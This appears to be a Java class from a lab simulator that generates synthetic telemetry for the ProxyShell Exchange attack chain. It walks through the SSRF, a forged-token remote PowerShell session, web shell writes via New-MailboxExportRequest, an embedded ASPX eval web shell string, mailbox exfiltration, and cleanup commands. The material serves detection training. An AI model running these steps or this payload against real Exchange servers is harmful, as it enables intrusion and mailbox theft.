package io.tidemark.lab;

import java.nio.charset.StandardCharsets;
import java.util.List;

/**
 * ProxyShell (CVE-2021-34473, -34523, -31207): autodiscover.json path confusion reaches the back
 * end as SYSTEM, a forged {@code X-Rps-CAT} token runs remote PowerShell as Administrator, a
 * draft mailed through EWS is exported with New-MailboxExportRequest as an {@code .aspx} PST under
 * aspnet_client, the shell runs commands, and several mailboxes leave as PSTs.
 */
final class ProxyShellAttack implements Attack {
  private static final String[] AGENTS = {
    "python-requests/2.26.0", "python-requests/2.25.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        + "Chrome/92.0.4515.131 Safari/537.36"
  };

  @Override
  public void plan(AttackKit kit) {
    Rand rand = kit.rand;
    Org org = kit.org;
    long t0 = kit.startTime(4);
    String ip = kit.attackerIp();
    String ua = rand.pick(AGENTS);
    RemoteShell rps = new RemoteShell(kit, ip, ua, rand.letters(rand.between(5, 9)) + ".example");
    Person admin = org.administrator;

    int ssrf = kit.plan.step("ssrf", t0, "CVE-2021-34473: autodiscover.json path confusion "
        + "reached autodiscover, MAPI and EWS on the back end, unauthenticated.");
    long t = rps.ssrf(t0, "/autodiscover/autodiscover.xml", "", "POST", 200, ssrf);
    t = rps.ssrf(t + rand.between(500, 3000), "/mapi/emsmdb", "", "POST", 200, ssrf);
    String subject = rand.letters(rand.between(6, 10));
    int draft = kit.plan.step("payload-delivery", t, "EWS CreateItem saved a draft carrying the "
        + "encoded web shell in Administrator's mailbox.");
    t = rps.ewsCreateItem(t + rand.between(2000, 9000), admin, draft);
    int elevate = kit.plan.step("remote-powershell", t, "CVE-2021-34523: remote PowerShell with "
        + "a forged X-Rps-CAT token ran as Administrator and granted Mailbox Import Export.");
    t = rps.session(t + rand.between(3000, 15_000), rand.between(6, 14), elevate);
    t = rps.cmdlet(t + 2000, admin, "New-ManagementRoleAssignment", "-Role \"Mailbox Import "
        + "Export\" -User \"" + admin.directoryPath() + "\"", elevate);
    String name = rand.letters(rand.between(4, 8)) + ".aspx";
    String shellPath = "C:\\inetpub\\wwwroot\\aspnet_client\\" + name;
    int export = kit.plan.step("webshell-write", t, "CVE-2021-31207: New-MailboxExportRequest "
        + "exported the draft as a PST named " + shellPath + ".");
    t = rps.cmdlet(t + rand.between(5000, 20_000), admin, "New-MailboxExportRequest", "-Mailbox \""
        + admin.upn() + "\" -IncludeFolders (\"#Drafts#\") -ContentFilter \"(Subject -eq '"
        + subject + "')\" -ExcludeDumpster -FilePath \"\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\"
        + "aspnet_client\\" + name + "\"", export);
    long written = t + rand.between(30_000, 120_000);
    Proc mrs = new Proc(AttackKit.MRS, 4188, "9A1C5E4B-0005-0000-5B00-000000000A00",
        "\"" + AttackKit.MRS + "\"", WindowsEvents.SYSTEM_USER, "C:\\Windows\\system32\\");
    kit.fileCreate(written, mrs, shellPath, export);
    kit.plan.webShell(kit.relative(shellPath), "/aspnet_client/" + name, written,
        pstShell(rand), export);
    kit.plan.mailbox(admin, "item", t, written);
    t = rps.cmdlet(written + rand.between(10_000, 60_000), admin, "Remove-MailboxExportRequest",
        "-Identity \"" + admin.directoryPath() + "\\MailboxExport\" -Confirm \"False\"", export);
    ShellSession shell = new ShellSession(kit, ip, ua, "/aspnet_client/" + name,
        kit.worker("DefaultAppPool"), "C:\\inetpub\\wwwroot\\aspnet_client");
    int use = kit.plan.step("webshell-use", t, "The exported .aspx ran commands through cmd.exe "
        + "under w3wp.exe.");
    t += rand.between(60_000, 300_000);
    for (String command : List.of("whoami", "hostname", "net user", "ipconfig /all")) {
      t = shell.chopper(t + rand.between(5000, 40_000), command, use);
    }
    t = exportMailboxes(kit, rps, shell, admin, t + rand.between(300_000, 1_200_000));
    kit.plan.account(admin);
  }

  private static long exportMailboxes(AttackKit kit, RemoteShell rps, ShellSession shell,
      Person admin, long start) {
    Rand rand = kit.rand;
    List<Person> victims = kit.victims(rand.between(2, 4));
    int tag = kit.plan.step("mailbox-export", start, "Remote PowerShell exported " + victims.size()
        + " mailboxes to PSTs under aspnet_client.");
    int exfil = kit.plan.step("exfiltration", start + 1, "The PSTs were downloaded over HTTPS.");
    int clean = kit.plan.step("cleanup", start + 2, "The export requests were removed and the "
        + "PSTs deleted.");
    long t = rps.session(start, 4, tag);
    Proc mrs = new Proc(AttackKit.MRS, 4188, "9A1C5E4B-0005-0000-5B00-000000000A00",
        "\"" + AttackKit.MRS + "\"", WindowsEvents.SYSTEM_USER, "C:\\Windows\\system32\\");
    for (Person victim : victims) {
      String file = rand.letters(6) + ".pst";
      String path = "C:\\inetpub\\wwwroot\\aspnet_client\\" + file;
      long requested = rps.cmdlet(t + rand.between(5000, 30_000), admin,
          "New-MailboxExportRequest", "-Mailbox \"" + victim.upn() + "\" -FilePath \"\\\\127.0.0.1"
          + "\\C$\\inetpub\\wwwroot\\aspnet_client\\" + file + "\"", tag);
      long written = requested + rand.between(120_000, 900_000);
      kit.fileCreate(written, mrs, path, tag);
      kit.plan.mailbox(victim, "mailbox", requested, written);
      long downloaded = shell.download(written + rand.between(60_000, 300_000),
          "/aspnet_client/" + file, exfil);
      rps.cmdlet(downloaded + rand.between(5000, 30_000), admin, "Remove-MailboxExportRequest",
          "-Identity \"" + victim.directoryPath() + "\\MailboxExport\" -Confirm \"False\"", clean);
      Proc del = shell.cmd(downloaded + 60_000, "del /f /q " + path, clean);
      kit.fileDelete(downloaded + 60_200, del, path, clean);
      t = shell.post(downloaded + 61_000, clean);
    }
    return t;
  }

  /** An Outlook PST header, binary junk, then the decoded shell inside, made inert. */
  private static byte[] pstShell(Rand rand) {
    byte[] junk = new byte[512];
    for (int i = 0; i < junk.length; i++) {
      junk[i] = (byte) rand.nextInt(256);
    }
    junk[0] = '!';
    junk[1] = 'B';
    junk[2] = 'D';
    junk[3] = 'N';
    byte[] marker = AttackKit.inertMarker();
    byte[] payload = ("<%eval(Request.Item[\"" + rand.pick("exec_code", "clientCode", "orangenb")
        + "\"],\"unsafe\");%>").getBytes(StandardCharsets.UTF_8);
    byte[] tail = new byte[256];
    for (int i = 0; i < tail.length; i++) {
      tail[i] = (byte) rand.nextInt(256);
    }
    byte[] all = new byte[junk.length + marker.length + payload.length + tail.length];
    System.arraycopy(junk, 0, all, 0, junk.length);
    System.arraycopy(marker, 0, all, junk.length, marker.length);
    System.arraycopy(payload, 0, all, junk.length + marker.length, payload.length);
    System.arraycopy(tail, 0, all, junk.length + marker.length + payload.length, tail.length);
    return all;
  }
}
